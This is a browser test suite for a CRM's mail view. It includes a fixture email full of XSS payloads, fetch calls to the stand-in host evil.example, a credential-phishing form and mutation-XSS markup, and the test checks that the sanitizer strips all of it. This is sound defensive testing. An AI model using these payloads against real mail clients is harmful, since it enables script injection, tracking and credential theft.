import { readFileSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext, FrameLocator, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { field, keepPicture, launchBrowser, needs, openPage, signIn } from '../support/browser.ts'
import { switchMailOn } from '../support/mail-on.ts'
import { startProduct, until, type Browser as Api, type RunningProduct } from '../support/running-product.ts'

/**
 * A day of mail as Anna sees it in a real Chromium: the real server, and the emulator in Microsoft's place. Each test
 * goes on where the one before ended.
 */
const ANNA = 'anna.lindqvist@contoso.example'
const BEN = 'ben.okafor@contoso.example'
const STEP_MS = 90_000
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** What a stranger may try. Each address in it is one that must never be asked for. */
const HOSTILE = `<html><head><script>document.title='owned'</script><style>@import url(https://evil.example/sheet.css);</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/base/"></head>
<body onload="fetch('https://evil.example/onload')" background="https://evil.example/background.png">
<p>Dear Anna, the offer is attached.</p>
<script src="https://evil.example/script.js"></script>
<img src="x" onerror="top.document.title='owned';fetch('https://evil.example/onerror')">
<img src="https://tracker.example/open.gif?anna" width="1" height="1">
<img src="https://images.example/logo.png" srcset="https://evil.example/2x.png 2x" width="120" height="40">
<img src="cid:chart" alt="The chart" width="20">
<div style="background-image:url('https://evil.example/css.png');position:fixed;inset:0;z-index:9999">cover</div>
<svg onload="fetch('https://evil.example/svg')"><image href="https://evil.example/svg.png"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>
<iframe src="https://evil.example/frame" srcdoc="<script>top.document.title='owned'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video poster="https://evil.example/poster.png" src="https://evil.example/video"></video>
<link rel="prefetch" href="https://evil.example/prefetch"><link rel="stylesheet" href="https://evil.example/style.css">
<form action="https://evil.example/form"><input name="password" autofocus><button>Sign in again</button></form>
<a href="javascript:top.document.title='owned'">a bad link</a> <a href="https://example.com/offer">the offer</a>
<a href="data:text/html,<script>alert(1)</script>">a data link</a>
<div style="border:none;border-top:solid #E1E1E1 1.0pt"><p><b>From:</b> Anna<br><b>Subject:</b> An offer?</p></div><p>Could you make an offer?</p>
</body></html>`

interface World {
  readonly browser: Browser
  readonly product: RunningProduct
  readonly context: BrowserContext
  readonly page: Page
  readonly anna: Api
  readonly troubles: readonly string[]
  /** Every address outside of the product that the browser asked for. */
  readonly left: string[]
  readonly folder: string
}
let world: World | null = null
let why = ''

beforeAll(async () => {
  const launched = await launchBrowser()
  if (launched.browser === null) {
    why = launched.why
    return
  }
  const product = await startProduct()
  await switchMailOn(product, ANNA, { 'emailSync.internal': true })
  const anna = await product.signIn(ANNA)
  await syncAllFolders(anna)
  const context = await launched.browser.newContext({
    viewport: { width: 1280, height: 900 },
    ...{ locale: 'en-GB', timezoneId: 'Europe/Berlin', reducedMotion: 'reduce', acceptDownloads: true },
  })
  context.setDefaultTimeout(20_000)
  const left: string[] = []
  await context.route(
    (url) => url.origin !== product.ready.backOffice && url.protocol.startsWith('http'),
    (route) => {
      left.push(route.request().url())
      return route.fulfill({ status: 200, contentType: 'image/png', body: Buffer.from(PNG, 'base64') })
    },
  )
  const { page, troubles } = await openPage(context)
  const folder = await mkdtemp(join(tmpdir(), 'syncline-mail-'))
  world = { ...{ browser: launched.browser, product, context, page, anna, troubles, left, folder } }
  await signIn(page, product.ready.backOffice, ANNA, product.ready.admin.password)
}, 240_000)

afterAll(async () => {
  await world?.browser.close()
  await world?.product.stop()
  if (world) await rm(world.folder, { recursive: true, force: true })
}, 60_000)

afterEach(async (context) => {
  if (world !== null) await keepPicture(context, world.page)
})

describe('[B][M] a day of mail', () => {
  test(
    'new mail is there with its count, is read with the keyboard, and is read in Outlook too',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page, product } = here
      await receive(here, BEN, 'Lunch on Monday?', '<p>Shall we meet at noon?</p>')
      await page.goto(`${product.ready.backOffice}/`)
      await page.getByRole('heading', { name: /^Overview/ }).waitFor()
      await page.keyboard.press('g')
      await page.keyboard.press('m')
      await page.waitForURL('**/mail')
      await row(page, 'Lunch on Monday?').waitFor()
      await page
        .getByRole('link', { name: /^Mail/ })
        .getByLabel(/unread/)
        .waitFor()
      await page.keyboard.press('j')
      await page.keyboard.press('Enter')
      await body(page, 'Lunch on Monday?').getByText('Shall we meet at noon?').waitFor()
      await until(
        'the message is read in Outlook',
        async () => (await find(here, ANNA, 'inbox', 'Lunch on Monday?'))?.isRead,
      )
    },
  )

  test(
    '[pain M] hostile HTML is text: nothing runs, nothing is fetched until the reader asks for pictures',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page, left } = here
      left.length = 0
      await receive(here, BEN, 'The offer', HOSTILE, [
        file('chart.png', 'image/png', PNG, { isInline: true, contentId: 'chart' }),
        file('offer.txt', 'text/plain', Buffer.from('one offer\n').toString('base64')),
      ])
      await row(page, 'The offer').click()
      const frame = body(page, 'The offer')
      await frame.getByText('Dear Anna, the offer is attached.').waitFor()
      await page.waitForTimeout(1_500)
      expect(left).toEqual([])
      expect(await page.title()).not.toContain('owned')
      const element = page.locator('iframe[title*="The offer"]')
      const sandbox = (await element.getAttribute('sandbox')) ?? ''
      expect(sandbox.split(' ')).not.toContain('allow-scripts')
      expect(sandbox.split(' ')).not.toContain('allow-forms')
      expect(sandbox.split(' ')).not.toContain('allow-top-navigation')
      for (const gone of [
        'script',
        'form',
        'input',
        'iframe',
        'object',
        'embed',
        'svg',
        'video',
        'link[rel]',
        'base',
        '[onload]',
        '[onerror]',
        '[style*="fixed"]',
        '[style*="url("]',
        '[href^="javascript"]',
        '[href^="data"]',
      ])
        expect(await frame.locator(gone).count(), gone).toBe(0)
      const offer = frame.getByRole('link', { name: 'the offer' })
      expect(await offer.getAttribute('target')).toBe('_blank')
      expect(await offer.getAttribute('rel')).toContain('noopener')
      // What was quoted is folded; the frame is as high as what it shows.
      expect(await frame.getByText('Could you make an offer?').isVisible()).toBe(false)
      await frame.getByText('Quoted text').click()
      await frame.getByText('Could you make an offer?').waitFor()
      await expect
        .poll(async () => {
          const [outer, inner] = [await element.boundingBox(), await frame.locator('body').boundingBox()]
          return Math.abs((outer?.height ?? 0) - (inner?.height ?? 99))
        })
        .toBeLessThan(3)

      await page.getByRole('button', { name: 'Show pictures' }).click()
      await expect
        .poll(() => [...new Set(left)].sort(), { timeout: 10_000 })
        .toEqual(['https://images.example/logo.png', 'https://tracker.example/open.gif?anna'])
    },
  )

  test(
    'attachments are listed with their sizes and saved as they were sent; inline pictures stand in the text',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page } = here
      const files = page.getByRole('region', { name: '1 attachment' })
      await files.getByText('offer.txt').waitFor({ timeout: 40_000 })
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        files.getByRole('link', { name: 'Download offer.txt' }).click(),
      ])
      expect(download.suggestedFilename()).toBe('offer.txt')
      expect(readFileSync(await download.path(), 'utf8')).toBe('one offer\n')
      const chart = body(page, 'The offer').getByRole('img', { name: 'The chart' })
      await expect
        .poll(() => chart.evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth), {
          timeout: 20_000,
        })
        .toBe(1)
    },
  )

  test(
    'a search is in the address and finds by what is written in a message',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page } = here
      await page.keyboard.press('Escape')
      await page.keyboard.press('/')
      await expect
        .poll(
          async () => {
            await page.getByRole('searchbox', { name: 'Search mail' }).fill('')
            await page.getByRole('searchbox', { name: 'Search mail' }).fill('noon')
            await page.waitForURL(/q=noon/)
            await page.waitForTimeout(800)
            return rows(page)
          },
          { timeout: 40_000 },
        )
        .toEqual(['Lunch on Monday?'])
      await page.reload()
      await row(page, 'Lunch on Monday?').waitFor()
      expect(await rows(page)).toEqual(['Lunch on Monday?'])
      await page.getByRole('searchbox', { name: 'Search mail' }).press('Escape')
      await row(page, 'The offer').waitFor()
    },
  )

  test(
    'a reply goes out once, with the quote, and the outbox says so',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page, product } = here
      await row(page, 'Lunch on Monday?').click()
      await body(page, 'Lunch on Monday?').getByText('Shall we meet at noon?').waitFor()
      await page.keyboard.press('r')
      const dialog = page.getByRole('dialog', { name: 'Reply' })
      await dialog.getByText('Ben Okafor').first().waitFor()
      await dialog.getByRole('textbox', { name: 'Text of the message' }).click()
      await page.keyboard.type('Noon it is.')
      await page.keyboard.press('Control+Enter')
      await page.getByText('Sending in 8 s.').waitFor()
      const reply = await until('the reply at Ben', () => find(here, BEN, 'inbox', 'RE: Lunch on Monday?'))
      expect(reply.body?.content).toContain('Noon it is.')
      expect(reply.body?.content).toContain('Shall we meet at noon?')
      await page.goto(`${product.ready.backOffice}/mail?view=outbox`)
      const sent = page.getByRole('listitem').filter({ hasText: 'RE: Lunch on Monday?' })
      await sent.getByText('Sent', { exact: true }).waitFor({ timeout: 40_000 })
      expect(await findAll(here, BEN, 'inbox', 'RE: Lunch on Monday?')).toHaveLength(1)
    },
  )

  test(
    'a forward with a file is taken back within seconds, nothing left, and then is sent',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page, product, folder } = here
      await page.goto(`${product.ready.backOffice}/mail`)
      await row(page, 'Lunch on Monday?').click()
      await body(page, 'Lunch on Monday?').getByText('Shall we meet at noon?').waitFor()
      await page.keyboard.press('f')
      const dialog = page.getByRole('dialog', { name: 'Forward' })
      await dialog.getByRole('textbox', { name: 'Text of the message' }).waitFor()
      await to(page).fill('nobody')
      await page.keyboard.press('Enter')
      await dialog.getByText('nobody is not an address.').waitFor()
      await to(page).fill('chiara')
      await page
        .getByRole('option', { name: /Chiara Rossi/ })
        .first()
        .click()
      const path = join(folder, 'menu.txt')
      await writeFile(path, 'soup\n'.repeat(40_000))
      await dialog.locator('input[type=file]').setInputFiles(path)
      await dialog.getByRole('button', { name: 'Remove menu.txt' }).waitFor()
      await dialog.getByRole('button', { name: 'Send', exact: true }).click()
      await page.getByText('Sending in 8 s.').waitFor()
      await page.getByRole('button', { name: 'Undo', exact: true }).first().click()
      await page.getByText('Nothing was sent. It is a draft again.').waitFor()
      expect(await find(here, 'chiara.rossi@contoso.example', 'inbox', 'FW: Lunch on Monday?')).toBeNull()
      const again = page.getByRole('dialog')
      await again.getByRole('button', { name: 'Remove menu.txt' }).waitFor()
      await again.getByRole('button', { name: 'Send', exact: true }).click()
      const forwarded = await until('the forward at Chiara', () =>
        find(here, 'chiara.rossi@contoso.example', 'inbox', 'FW: Lunch on Monday?'),
      )
      expect(forwarded.hasAttachments).toBe(true)
    },
  )

  test(
    'what is written is saved by itself, lies in Drafts of Outlook, and survives a reload',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page, product } = here
      await page.goto(`${product.ready.backOffice}/mail`)
      await row(page, 'The offer').waitFor()
      await page.keyboard.press('c')
      await field(page, 'Subject').fill('Plans for spring')
      await page.getByRole('textbox', { name: 'Text of the message' }).click()
      await page.keyboard.type('We could begin in March.')
      await page.getByText(/^Saved at/).waitFor()
      await page.reload()
      await page
        .getByRole('textbox', { name: 'Text of the message' })
        .getByText('We could begin in March.')
        .waitFor()
      expect(await field(page, 'Subject').inputValue()).toBe('Plans for spring')
      await until('the draft in Outlook', () => find(here, ANNA, 'drafts', 'Plans for spring'))
    },
  )

  test(
    'send later waits for its time in the reader’s zone and can be taken back',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page, product } = here
      await to(page).fill('ben.okafor@contoso.example')
      await page.keyboard.press('Enter')
      await page.getByRole('button', { name: 'Send later' }).click()
      await page.getByRole('menuitem', { name: 'Send later' }).click()
      const later = page.getByRole('dialog', { name: 'Send later' })
      await later.getByRole('button', { name: /Tomorrow morning/ }).click()
      await later.getByRole('button', { name: /^Send / }).click()
      await page.getByText(/It will be sent/).waitFor()
      await page.goto(`${product.ready.backOffice}/mail?view=outbox`)
      const waiting = page.getByRole('listitem').filter({ hasText: 'Plans for spring' })
      await waiting.getByText('Waits', { exact: true }).waitFor()
      await waiting.getByRole('button', { name: 'Take back' }).click()
      await page.getByRole('dialog').getByRole('textbox', { name: 'Text of the message' }).waitFor()
      await page.getByRole('button', { name: 'Discard', exact: true }).click()
      await page
        .getByRole('dialog', { name: 'Discard this draft?' })
        .getByRole('button', { name: 'Discard' })
        .click()
      await page.getByText('Draft discarded.').waitFor()
      expect(await find(here, BEN, 'inbox', 'Plans for spring')).toBeNull()
    },
  )

  test(
    'messages are moved and deleted by key, in Outlook too, and one press takes it back',
    { timeout: STEP_MS },
    async (context) => {
      const here = world
      needs(context, here, why)
      const { page, product } = here
      await page.goto(`${product.ready.backOffice}/mail`)
      await row(page, 'The offer').click()
      await body(page, 'The offer').getByText('Dear Anna').waitFor()
      await page.keyboard.press('v')
      await page.getByRole('textbox', { name: 'Find a folder' }).fill('archive')
      await page.keyboard.press('Enter')
      await page.getByText('1 message moved to Archive.').waitFor()
      await row(page, 'The offer').waitFor({ state: 'hidden' })
      await until('it lies in Archive', () => find(here, ANNA, 'archive', 'The offer'))
      await page.getByRole('button', { name: 'Undo', exact: true }).first().click()
      await row(page, 'The offer').waitFor()
      await until('it lies in the Inbox again', () => find(here, ANNA, 'inbox', 'The offer'))
      await row(page, 'The offer').click()
      await body(page, 'The offer').getByText('Dear Anna').waitFor()
      await page.keyboard.press('#')
      await page.getByText('1 message deleted.').waitFor()
      await row(page, 'The offer').waitFor({ state: 'hidden' })
      await page.keyboard.press('z')
      await row(page, 'The offer').waitFor()
      expect(await find(here, ANNA, 'inbox', 'The offer')).not.toBeNull()
      await row(page, 'The offer').click()
      await body(page, 'The offer').getByText('Dear Anna').waitFor()
      await page.keyboard.press('#')
      await row(page, 'The offer').waitFor({ state: 'hidden' })
      await until('it lies in Deleted Items', () => find(here, ANNA, 'deleteditems', 'The offer'))
      expect(await find(here, ANNA, 'inbox', 'The offer')).toBeNull()
    },
  )

  test('several are selected with shift and flagged at once', { timeout: STEP_MS }, async (context) => {
    const here = world
    needs(context, here, why)
    const { page } = here
    const boxes = page.getByRole('listitem').getByRole('checkbox')
    await boxes.nth(0).click()
    await boxes.nth(1).click({ modifiers: ['Shift'] })
    await page.getByText('2 selected').waitFor()
    const names = (await rows(page)).slice(0, 2)
    await page.keyboard.press('s')
    for (const subject of names)
      await until(
        `${subject} is flagged in Outlook`,
        async () => (await find(here, ANNA, 'inbox', subject))?.flag?.flagStatus === 'flagged',
      )
    await page.keyboard.press('Escape')
    await page.getByText('2 selected').waitFor({ state: 'hidden' })
  })

  test('on a phone there is one pane at a time, and the way back', { timeout: STEP_MS }, async (context) => {
    const here = world
    needs(context, here, why)
    const { page, product } = here
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto(`${product.ready.backOffice}/mail`)
    await row(page, 'Lunch on Monday?').click()
    await body(page, 'Lunch on Monday?').getByText('Shall we meet at noon?').waitFor()
    expect(await page.getByRole('searchbox', { name: 'Search mail' }).count()).toBe(0)
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(390)
    await page.getByRole('button', { name: 'Back to the list' }).click()
    await page.getByRole('button', { name: 'Folders' }).click()
    await page
      .getByRole('dialog')
      .getByRole('link', { name: /Sent Items/ })
      .click()
    await row(page, 'FW: Lunch on Monday?').waitFor()
    await page.setViewportSize({ width: 1280, height: 900 })
  })

  test('nothing in all this broke a page or its security policy', async (context) => {
    const here = world
    needs(context, here, why)
    // A version that the sync moved under the page is answered with 409, and the page goes on from the newer one.
    const expected = /the server responded with a status of 409/
    expect(here.troubles.filter((one) => !expected.test(one))).toEqual([])
  })
})

interface Mail {
  readonly id: string
  readonly subject: string
  readonly isRead: boolean
  readonly hasAttachments: boolean
  readonly body?: { readonly content: string }
  readonly flag?: { readonly flagStatus: string }
}
async function findAll(
  { product }: World,
  person: string,
  folder: string,
  subject: string,
): Promise<readonly Mail[]> {
  const answer = await product.outlook(person, 'GET', `/me/mailFolders/${folder}/messages?$top=200`)
  const { value } = (answer['body'] ?? answer) as { readonly value: readonly Mail[] }
  return value.filter((one) => one.subject === subject)
}
const find = async (of: World, person: string, folder: string, subject: string): Promise<Mail | null> =>
  (await findAll(of, person, folder, subject))[0] ?? null

const file = (name: string, contentType: string, contentBytes: string, more: object = {}): object => ({
  '@odata.type': '#microsoft.graph.fileAttachment',
  ...{ name, contentType, contentBytes },
  ...more,
})

/** Somebody writes to Anna; it is there when her list shows it. */
async function receive(
  of: World,
  from: string,
  subject: string,
  html: string,
  attachments: readonly object[] = [],
): Promise<void> {
  await of.product.outlook(from, 'POST', '/me/sendMail', {
    message: {
      ...{ subject, attachments },
      body: { contentType: 'html', content: html },
      toRecipients: [{ emailAddress: { address: ANNA, name: 'Anna Lindqvist' } }],
    },
  })
  await of.anna.call('POST /api/sync', { body: {} })
  await until(`"${subject}" in the CRM`, async () => {
    const { items } = await of.anna.call('GET /api/mail/messages', { query: { place: 'inbox' } })
    return items.some((one) => one.subject === subject)
  })
}

async function syncAllFolders(anna: Api): Promise<void> {
  const { items } = await anna.call('GET /api/mailboxes')
  const mailbox = items.find((one) => one.address === ANNA)?.id ?? ''
  const folders = await anna.call('GET /api/mailboxes/:mailbox/collections', {
    params: { mailbox },
    query: { channel: 'email' },
  })
  await anna.call('PATCH /api/settings', {
    body: {
      scope: 'user',
      set: {
        'emailSync.folders': { mode: 'chosen', ids: folders.items.map((one) => one.id), newItemsTo: null },
      },
    },
  })
  await anna.call('POST /api/sync', { body: {} })
  await until('all folders in step', async () => {
    const { mailboxes } = await anna.call('GET /api/mail/folders')
    return mailboxes[0]?.folders.find((one) => one.wellKnown === 'archive')?.syncs
  })
}

const row = (page: Page, subject: string) =>
  page
    .locator('[data-message]')
    .filter({ has: page.getByText(subject, { exact: true }) })
    .getByRole('link')
const rows = (page: Page): Promise<string[]> =>
  page.locator('[data-message] [data-subject]').allTextContents()
const body = (page: Page, subject: string): FrameLocator =>
  page.frameLocator(`iframe[title="Text of the message: ${subject}"]`)
const to = (page: Page) => page.getByRole('combobox', { name: 'To', exact: true })
